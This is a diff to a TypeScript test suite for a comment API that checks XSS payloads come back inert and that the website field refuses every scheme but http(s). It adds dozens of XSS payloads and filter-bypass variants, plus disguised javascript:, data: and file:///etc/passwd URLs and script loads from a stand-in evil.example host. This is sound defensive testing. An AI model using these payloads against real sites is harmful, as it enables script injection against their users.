@@ -66,34 +66,191 @@ describe('the public API never exposes an email, an IP or a user agent', () => {
   });
 });
 
+/**
+ * XSS payloads in every field. `html` keeps only the markup the renderer writes (<p>, <br>, and
+ * links to http(s) addresses with rel="nofollow ugc noopener"), and reads back as the content,
+ * escaped; names come back as plain text; the website field refuses every scheme but http(s),
+ * however it is disguised, and what it accepts has nothing that could close an attribute.
+ */
 describe('XSS payloads come back inert', () => {
   const payloads = [
     '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>',
-    '<a href="javascript:alert(1)">x</a>',
-    '"><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
-    '&lt;script&gt;alert(1)&lt;/script&gt;',
     '<ScRiPt>alert(1)</sCrIpT>',
+    '<script src=//evil.example/x.js></script>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<<script>script>alert(1)<</script>/script>',
+    '<scr\u0000ipt>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<IMG SRC=JaVaScRiPt:alert(1)>',
+    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
+    '<svg onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '"><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="https://example.com" onclick="alert(1)">x</a>',
+    '<a href=https://example.com>x</a>',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '&#60;script&#62;alert(1)&#60;/script&#62;',
+    '&#x3C;img src=x onerror=alert(1)&#x3E;',
+    '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+    '<body onload=alert(1)>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<style>@import "//evil.example/x.css";</style>',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+    '<input autofocus onfocus=alert(1)>',
+    '<details open ontoggle=alert(1)>',
+    '<video><source onerror=alert(1)></video>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">',
+    '<!--<script>alert(1)//-->',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '</p><script>alert(1)</script><p>',
+    '<x onmouseover=alert(1)>survolez-moi',
     'javascript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:msgbox(1)',
     'https://example.com/"onmouseover="alert(1)',
     "https://example.com/'><script>alert(1)</script>",
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    'https://example.com/<script>alert(1)</script>',
+    'http://example.com/?q=<img src=x onerror=alert(1)>',
+    'https://example.com/#"><svg onload=alert(1)>',
+    'https://example.com/`onmouseover=alert(1)`',
+    'https://javascript:alert(1)@example.com/',
+    '[url=javascript:alert(1)]x[/url]',
+    '[img]javascript:alert(1)[/img]',
+    '{{constructor.constructor("alert(1)")()}}',
+    '${alert(1)}',
+    '\u202e<script>alert(1)</script>',
   ];
 
-  it.each(payloads)('%s', async (payload) => {
+  /** The markup the renderer may write, nothing else. */
+  const OUR_TAG = /^(<p>|<\/p>|<br>|<a href="https?:\/\/[^"<>\s`]*" rel="nofollow ugc noopener">|<\/a>)$/;
+  const ENTITIES: Record<string, string> = { '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'", '&amp;': '&' };
+  /** The text a browser would show for our html: it must be the content, character for character. */
+  const shownText = (html: string) =>
+    html
+      .replace(/<\/p><p>/g, '\n\n')
+      .replace(/<br>/g, '\n')
+      .replace(/<[^>]+>/g, '')
+      .replace(/&(lt|gt|quot|#39|amp);/g, (m) => ENTITIES[m]!);
+
+  function expectInert(html: string, content: string) {
+    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(OUR_TAG);
+    for (const href of html.matchAll(/href="([^"]*)"/g)) expect(new URL(href[1]!.replace(/&amp;/g, '&')).protocol).toMatch(/^https?:$/);
+    expect(html).not.toMatch(/<(?!\/?p>|br>|a href="https?:|\/a>)/);
+    expect(shownText(html)).toBe(content);
+  }
+
+  it.each(payloads)('in the content and the name: %s', async (payload) => {
     const t = await setup();
-    const res = await post(t, 'x', comment({ author: payload.slice(0, 100), content: `Texte ${payload}` }));
-    // Whatever the verdict, the stored rendering is inert; approved ones show in the thread.
-    expect([201]).toContain(res.status);
-    const own = ((await res.json()) as any).comment;
-    for (const html of [own.html]) {
-      expect(html).not.toMatch(/<(script|img|svg|iframe|math)\b/i);
-      expect(html).not.toMatch(/href="(javascript|data):/i);
+    const res = await post(t, 'x', comment({ author: `Nom ${payload}`.slice(0, 100), content: `Texte ${payload}` }));
+    expect(res.status).toBe(201);
+    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
+    const own = ((await res.json()) as { comment: { html: string; content: string; author: { name: string } } }).comment;
+    expectInert(own.html, own.content);
+    // The name is text in JSON (served as application/json, nosniff), never rendered by us.
+    expect(own.author.name.startsWith('Nom ')).toBe(true);
+    // Approved ones are in the thread with the same inert html.
+    for (const c of (await thread(t, 'x')).comments) expectInert(c.html, c.content);
+  });
+
+  it.each(payloads)('in the website: %s', async (payload) => {
+    const t = await setup();
+    const res = await post(t, 'x', comment({ website: payload }));
+    if (res.status === 422) {
+      expect(((await res.json()) as { errors: Record<string, string> }).errors).toHaveProperty('website');
+      return;
     }
-    // Only our own tags: <p>, <br>, and <a href="http(s)…" rel=…>.
-    const tags = own.html.match(/<[^>]+>/g) ?? [];
-    for (const tag of tags) expect(tag).toMatch(/^(<p>|<\/p>|<br>|<a href="https?:\/\/[^"<>]*" rel="nofollow ugc noopener">|<\/a>)$/);
+    expect(res.status).toBe(201);
+    expectSafeWebsite(((await res.json()) as { comment: { author: { website: string } } }).comment.author.website);
+  });
+
+  /** An accepted website: an http(s) URL with nothing that can end an attribute or a tag. */
+  function expectSafeWebsite(website: string) {
+    expect(new URL(website).protocol).toMatch(/^https?:$/);
+    expect(website).toMatch(/^https?:\/\//i);
+    expect(website).not.toMatch(/[\s"'<>`\\]/);
+  }
+
+  const schemes = [
+    'javascript:alert(1)',
+    'JavaScript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    ' javascript:alert(1)',
+    '\tjavascript:alert(1)',
+    'java\tscript:alert(1)',
+    'java\nscript:alert(1)',
+    'java\u0000script:alert(1)',
+    'javascript\u0000:alert(1)',
+    '\u200bjavascript:alert(1)',
+    'javascript\u200b:alert(1)',
+    '\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1)',
+    '&#106;avascript:alert(1)',
+    '&#x6A;avascript:alert(1)',
+    'javascript&colon;alert(1)',
+    'javascript&#58;alert(1)',
+    'jav&#x09;ascript:alert(1)',
+    '%6Aavascript:alert(1)',
+    'javascript%3Aalert(1)',
+    'javascript://example.com/%0Aalert(1)',
+    'javascript:https://example.com',
+    'javascript:http://example.com',
+    'data:text/html,<script>alert(1)</script>',
+    'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    'data:image/svg+xml,<svg onload=alert(1)>',
+    'vbscript:msgbox(1)',
+    'VBScript:msgbox(1)',
+    'file:///etc/passwd',
+    'ftp://example.com/',
+    'blob:https://example.com/0000',
+    'about:blank',
+    'mailto:a@exemple.fr',
+    'tel:+33123456789',
+    'ws://example.com/',
+    'chrome://settings',
+    'view-source:https://example.com',
+    '//evil.example/',
+    '\\\\evil.example\\x',
+    'http:evil.example',
+    'https:/evil.example',
+    'http:\\\\evil.example',
+    'https://user:pass@example.com/',
+    'https://',
+    'http://exa mple.com/',
+    'https://example.com/"onmouseover="alert(1)',
+    "https://example.com/'onmouseover='alert(1)",
+    'https://example.com/<script>alert(1)</script>',
+    'https://example.com/`x`',
+  ];
+
+  it('the website refuses every scheme but http(s), however disguised, and anything that could break out of an attribute', async () => {
+    const t = await setup();
+    const accepted: string[] = [];
+    for (const website of schemes) {
+      const res = await post(t, 'x', comment({ website }));
+      if (res.status === 201) {
+        const got = ((await res.json()) as { comment: { author: { website: string } } }).comment.author.website;
+        accepted.push(website);
+        expectSafeWebsite(got);
+      } else {
+        expect(res.status, JSON.stringify(website)).toBe(422);
+        expect(((await res.json()) as { errors: Record<string, string> }).errors, JSON.stringify(website)).toHaveProperty('website');
+      }
+    }
+    expect(accepted).toEqual([]);
+    // Plain addresses still go through.
+    for (const website of ['https://example.com', 'http://blog.example.org/2026/09/article?id=3#fin', 'HTTPS://EXAMPLE.COM/Page']) {
+      const res = await post(t, 'x', comment({ website }));
+      expect(res.status, website).toBe(201);
+    }
   });
 });
 
